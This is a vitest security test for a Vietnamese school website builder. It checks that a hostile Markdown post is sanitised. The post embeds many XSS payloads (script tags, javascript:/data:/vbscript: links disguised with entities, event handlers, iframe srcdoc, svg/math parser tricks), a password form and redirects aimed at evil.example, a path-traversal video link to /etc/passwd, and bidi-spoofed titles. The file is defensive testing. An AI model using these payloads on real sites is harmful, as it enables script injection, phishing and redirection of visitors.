/**
 * A hostile editor's post, through one real build of the mini fixture: raw HTML
 * (`<iframe srcdoc>`, `<svg><script>`, `<math>` and `<noscript>` parser tricks,
 * `<base>`, `<meta refresh>`, forms, `style=`, event handlers, `target=_blank`),
 * `javascript:`, `data:` and `vbscript:` links spelled with entities, tabs, capitals
 * and in table cells, «Video» lines naming scripts, `..` and other hosts, and a
 * title carrying bidi overrides, zero-width characters and emoji. The build
 * succeeds and the article is neutral: only the allow-listed elements, no script
 * but the print button's own, no handler or style attribute, no link that runs
 * code, no player for anything but the school's own /video/ files; the title is
 * shown without its invisible controls, emoji kept. A 10 000-character title is
 * refused with the field and the fix.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseHTML } from 'linkedom';
import { readSite } from '../../content-schemas/validate.ts';
import { buildSite, type BuildResult } from '../../scripts/lib/build-site.ts';
import { copySite, type TempSite } from '../helpers/temp-site.ts';
import { FIXTURE_SITES_DIR } from '../helpers/paths.ts';

const RLO = '\u202E';
const TITLE = `Thông báo${RLO} khẩn\u200B về lịch thi\u2066 học kỳ I 👨‍👩‍👧‍👦`;
const SHOWN_TITLE = 'Thông báo khẩn về lịch thi học kỳ I 👨‍👩‍👧‍👦';

const POST = `---
title: ${JSON.stringify(TITLE)}
description: ${JSON.stringify(`Lịch thi${RLO} "><script>alert(0)</script>`)}
date: 2026-04-20
category: thong-bao
---
Đoạn mở đầu.

<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>

<svg><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>

<math><mi xlink:href="javascript:alert(4)">m</mi></math>

<math><mtext><table><mglyph><style><b onclick=alert(5)>b</b>

<noscript><p title="</noscript><b onclick=alert(6)>"></noscript>

<!--<b onclick=alert(7)>-->

[liên kết 1](javascript:alert(8))

[liên kết 2](java&#x09;script:alert(9))

[liên kết 3](&#106;avascript:alert(10))

[liên kết 4](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=)

[liên kết 5](<JAVASCRIPT:alert(12)>)

[liên kết 6](javascript&colon;alert(13))

<a href="jav&#x0A;ascript:alert(14)" target="_blank">raw a</a>

<a href="https://example.com" target="_blank">ngoài</a>

<a href="vbscript:msgbox(15)">vb</a>

<p style="position:fixed;inset:0;background:red">phủ kín trang</p>

<div style="background:url(javascript:alert(16))">nền</div>

<form action="https://evil.example/"><input name="mat-khau" type="password"></form>

<object data="x.swf"></object><embed src="x.swf">

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<link rel="stylesheet" href="https://evil.example/x.css">

<details open ontoggle="alert(17)">chi tiết</details>

<table><tr><td onmouseover="alert(18)">ô</td></tr></table>

[video 1](javascript:alert(19) "video")

[video 2](/video/../../../etc/passwd.mp4 "video")

[video 3](//evil.example/video/x.mp4 "video")

[video 4](https://evil.example/video/x.mp4 "video")

<video src="https://evil.example/x.mp4" autoplay></video>

| <b onclick=alert(21)>Cột</b> "><script>alert(22)</script> | Liên kết |
| --- | --- |
| a | [ô](javascript:alert(20)) |
`;

let site: TempSite;
let outRoot: string;
let build: BuildResult;
let page: Document;
let article: Element;

beforeAll(async () => {
  site = copySite(join(FIXTURE_SITES_DIR, 'mini'));
  site.write('content/tin-tuc/thong-bao-lich-thi.md', POST);
  outRoot = mkdtempSync(join(tmpdir(), 'cong-truong-hostile-md-'));
  build = await buildSite('mini', { sitesDir: site.sitesDir, outRoot, onOutput: () => {}, onWarning: () => {} });
  if (!build.ok) return;
  page = parseHTML(readFileSync(join(outRoot, 'mini/tin-tuc/thong-bao-lich-thi/index.html'), 'utf8')).document;
  article = page.querySelector('article')!;
});

afterAll(() => {
  rmSync(site.sitesDir, { recursive: true, force: true });
  rmSync(outRoot, { recursive: true, force: true });
});

const ALLOWED = new Set([
  ...['article', 'header', 'div', 'p', 'a', 'b', 'strong', 'em', 'h1', 'h2', 'span', 'time', 'nav', 'ol', 'ul', 'li'],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td', 'figure', 'figcaption', 'button', 'details', 'summary'],
  ...['script', 'img', 'picture', 'source', 'dl', 'dt', 'dd', 'br', 'svg', 'path', 'video'],
]);

describe('a hostile post', () => {
  it('builds', () => {
    expect(build.error).toBeUndefined();
    expect(build.ok).toBe(true);
  });

  it('keeps the text and drops the markup', () => {
    const text = article.textContent ?? '';
    // Inline HTML keeps its text; a raw HTML block (<p style>, <details>, <table>) is dropped whole.
    for (const words of ['Đoạn mở đầu.', 'liên kết 1', 'raw a', 'ngoài', 'vb']) expect(text).toContain(words);
    const tags = new Set([...article.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()));
    expect([...tags].filter((t) => !ALLOWED.has(t))).toEqual([]);
    for (const tag of [
      'iframe',
      'math',
      'object',
      'embed',
      'form',
      'input',
      'base',
      'meta',
      'link',
      'style',
      'noscript',
    ])
      expect(article.querySelectorAll(tag).length, tag).toBe(0);
  });

  it('runs no script but the print button’s own, and carries no handler or style attribute', () => {
    const scripts = [...article.querySelectorAll('script')];
    expect(scripts.map((s) => s.getAttributeNames())).toEqual([['data-ct-print']]);
    for (const element of article.querySelectorAll('*')) {
      const names = element.getAttributeNames();
      expect(names.filter((n) => /^on/i.test(n) || ['style', 'srcdoc', 'formaction'].includes(n))).toEqual([]);
    }
  });

  it('has no link that runs code or leaves with window.opener', () => {
    for (const a of page.querySelectorAll('a[href]')) {
      const href = a.getAttribute('href') ?? '';
      expect(href.replace(/[\s\u0000-\u001f]/g, '').toLowerCase()).not.toMatch(/^(javascript|vbscript|data):/);
      if (a.getAttribute('target') === '_blank') expect(a.getAttribute('rel')).toMatch(/\bnoopener\b/);
    }
    // Every "liên kết" with a hostile target became a plain, inert <a> with no address.
    for (const n of [1, 2, 3, 4, 5, 6]) {
      const link = [...article.querySelectorAll('a')].find((a) => a.textContent === `liên kết ${n}`);
      expect(link, `liên kết ${n}`).toBeDefined();
      expect(link?.hasAttribute('href'), `liên kết ${n}`).toBe(false);
    }
  });

  it('plays no video: a «Video» line that is not the school’s own file or a known host stays a plain link', () => {
    expect(article.querySelectorAll('video').length).toBe(0);
    expect(article.querySelectorAll('figure.ct-video').length).toBe(0);
    const video = (n: number) => [...article.querySelectorAll('a')].find((a) => a.textContent === `video ${n}`);
    expect(video(1)?.hasAttribute('href')).toBe(false);
    // `..` resolves on the portal's own origin, as any relative link does.
    expect(new URL(video(2)?.getAttribute('href') ?? '', 'https://thcs.edu.vn/tin-tuc/x/').origin).toBe(
      'https://thcs.edu.vn',
    );
    expect(video(4)?.getAttribute('href')).toBe('https://evil.example/video/x.mp4');
  });

  it('shows the title without bidi controls or zero-width spaces, emoji kept', () => {
    expect(article.querySelector('h1')?.textContent).toBe(SHOWN_TITLE);
    const title = page.querySelector('title')?.textContent ?? '';
    expect(title.startsWith(SHOWN_TITLE)).toBe(true);
    expect(title).not.toMatch(/[\u200B\u202A-\u202E\u2066-\u2069]/);
    const listing = readFileSync(join(outRoot, 'mini/thong-bao/index.html'), 'utf8');
    expect(listing).toContain(SHOWN_TITLE);
    expect(listing).not.toMatch(/[\u200B\u202A-\u202E\u2066-\u2069]/);
  });

  it('names a pasted table by its header text, with the markup gone', () => {
    const region = article.querySelector('.ct-scroll[role="region"]');
    // The script's text stays as text; the quote is typeset (“).
    expect(region?.getAttribute('aria-label')).toBe('Bảng: Cột “>alert(22), Liên kết');
    expect(article.querySelector('th')?.textContent).toBe('Cột “>alert(22)');
    expect(article.querySelectorAll('th *').length).toBe(0);
  });

  it('shows the description as text', () => {
    expect(article.textContent).toContain('Lịch thi "><script>alert(0)</script>');
  });
});

describe('a 10 000-character title', () => {
  it('is refused with the field and the fix', () => {
    const copy = copySite(join(FIXTURE_SITES_DIR, 'mini'));
    copy.write('content/tin-tuc/thong-bao-dai.md', POST.replace(JSON.stringify(TITLE), 'Thông báo '.repeat(1000)));
    const problems = readSite(copy.siteDir, copy.sitesDir).problems;
    rmSync(copy.sitesDir, { recursive: true, force: true });
    expect(problems).toEqual([
      {
        file: 'mini/content/tin-tuc/thong-bao-dai.md',
        field: 'title',
        vi: '«Tiêu đề» (title): quá dài (tối đa 200 ký tự). Cách sửa: rút gọn nội dung.',
        en: '"Title" (title): is too long (at most 200 characters). Fix: shorten it.',
      },
    ]);
  });
});
